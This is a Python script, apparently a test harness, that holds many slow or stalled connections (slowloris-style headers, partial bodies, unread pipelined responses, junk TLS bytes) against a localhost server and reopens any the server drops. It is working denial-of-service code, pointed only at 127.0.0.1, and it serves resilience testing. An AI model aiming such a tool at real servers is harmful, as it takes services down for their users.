"""Connections of an attacker: `python attacker.py PORT KIND COUNT [ADDRESSES]`, until standard input ends.

It says `ready` when all were opened once. Connections that the server drops are opened again, ten times a second.
"""

import contextlib
import itertools
import resource
import select
import socket
import sys
import threading
import time

_PAUSE_S = 0.1
_HEAD = b"POST %b HTTP/1.1\r\nHost: localhost\r\nContent-Type: %b\r\nContent-Length: %d\r\n\r\n"
_FORM = b'--b\r\nContent-Disposition: form-data; name="image"; filename="p"\r\n\r\n\xff\xd8\xff' + bytes(20_000)
KINDS = {
    "idle": b"",
    "header": b"GET /health/live HTTP/1.1\r\nHost: localhost\r\nX-Slow: ",
    "body": _HEAD % (b"/api/search", b"application/json", 1000) + b'{"text": "',
    "form": _HEAD % (b"/api/search/image", b"multipart/form-data; boundary=b", 500_000) + _FORM,
    "chunks": b"POST /api/search HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n5\r\n{",
    "no reader": b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 40,
    "broken": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" * 20,
}


def open_one(port, sent, address):
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.settimeout(5)
    with contextlib.suppress(OSError):
        connection.bind((address, 0))
        connection.connect(("127.0.0.1", port))
        connection.sendall(sent)
    return connection


def attack(port, kind, count, addresses):
    sources = itertools.cycle(f"127.0.0.{2 + i}" if addresses > 1 else "127.0.0.1" for i in range(addresses))
    held = [open_one(port, KINDS[kind], next(sources)) for _ in range(count)]
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    poller = select.poll()
    places = {}
    for place, connection in enumerate(held):
        places[connection.fileno()] = place
        poller.register(connection, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
    while True:
        time.sleep(_PAUSE_S)
        for number, _ in poller.poll(1000):
            place = places.pop(number)
            poller.unregister(number)
            held[place].close()
            held[place] = connection = open_one(port, KINDS[kind], next(sources))
            places[connection.fileno()] = place
            poller.register(connection, select.POLLRDHUP | select.POLLHUP | select.POLLERR)


if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(4096, hard), hard))
    port, kind, count, addresses = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    threading.Thread(target=attack, args=(port, kind, count, addresses), daemon=True).start()
    sys.stdin.read()
